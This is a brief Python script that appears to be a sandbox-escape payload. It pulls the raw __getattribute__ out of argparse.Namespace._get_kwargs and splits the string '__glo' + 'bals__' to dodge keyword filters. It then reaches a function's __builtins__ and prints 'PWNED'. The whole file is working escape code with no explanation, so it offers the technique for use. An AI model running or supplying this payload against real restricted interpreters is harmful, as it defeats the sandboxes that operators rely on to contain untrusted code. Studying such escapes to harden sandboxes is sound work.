import argparse


class Names(argparse.Namespace):
    pass


def function():
    pass


raw = dict(Names._get_kwargs(object))["__getattribute__"]
print("PWNED", raw(function, "__glo" + "bals__")["__builtins__"])
